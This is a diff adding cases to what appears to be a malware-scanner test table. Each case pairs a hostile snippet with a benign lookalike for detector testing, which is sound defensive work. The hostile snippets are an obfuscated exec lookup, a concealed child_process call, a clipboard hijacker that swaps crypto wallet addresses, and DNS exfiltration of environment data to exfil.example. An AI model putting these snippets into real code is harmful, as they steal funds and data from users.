@@ -85,6 +85,9 @@ CASES = [
     ("STATIC-PY-BUILTINS-LOOKUP",
      py(module("g = globals()['__builtins__']\nrun = globals()[''.join(['e', 'x', 'e', 'c'])]\n")),
      py(module("handler = globals().get('handle_' + kind)\n"))),
+    ("STATIC-PY-BUILTINS-LOOKUP",  # a code-execution agent naming builtins it blocks (prismal-ai)
+     py(module("f = vars(__builtins__)[bytes([101, 120, 101, 99]).decode()]\n")),
+     py(module('BLOCKED = "getattr(__builtins__, \'__import__\')"\nx = getattr(__builtins__, "__import__")\n'))),
     ("STATIC-PY-SILENT-POPEN",
      py(module("import subprocess\nsubprocess.Popen(['stub.exe'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
                "                 creationflags=0x08000000)\n")),
@@ -99,6 +102,18 @@ CASES = [
     ("STATIC-JS-COMPUTED-MODULE",
      js({"index.js": "const cp = require('child_' + 'process');\ncp.exec('id');\n"}),
      js({"index.js": "const plugin = require('./plugins/' + name);\nmodule.exports = plugin;\n"})),
+    ("STATIC-JS-COMPUTED-MODULE",  # rollup's import.meta.url shim (unplugin-dts)
+     js({"index.js": "const m = require('chi' + 'ld_process');\nm.exec('id');\n"}),
+     js({"index.js": "const u = require('u' + 'rl').pathToFileURL(__filename).href;\n"})),
+    ("STATIC-CLIPBOARD-HIJACK",  # a payment widget copying the deposit address (coinley-pay)
+     js({"index.js": "setInterval(async () => { const t = await navigator.clipboard.readText();\n"
+                     "if (/^0x[a-fA-F0-9]{40}$/.test(t)) await navigator.clipboard.writeText(MINE); }, 500);\n"}),
+     js({"index.js": "// pay to your wallet\nconst re = /^0x[a-fA-F0-9]{40}$/;\nbutton.onclick = () => navigator.clipboard.writeText(depositAddress);\n"})),
+    ("STATIC-DNS-EXFIL",  # jupyterlab's webpack config
+     js({"index.js": "const dns = require('dns');\nconst h = Buffer.from(process.env.HOME).toString('hex');\n"
+                     "for (const c of h.match(/.{1,60}/g)) dns.resolve4(c + '.x.exfil.example', () => {});\n"}),
+     js({"index.js": "const path = require('path');\nfor (const name of names) {\n  const p = require.resolve(path.join(name, 'package.json'));\n"
+                     "  const hex = Buffer.from(p).toString('hex');\n}\n"})),
     ("STATIC-JS-COMPUTED-MODULE",
      js({"index.js": "const e = Reflect.get(process, 'env');\nmodule.exports = e;\n"}),
      js({"index.js": "const v = Reflect.get(target, 'value');\nmodule.exports = v;\n"})),
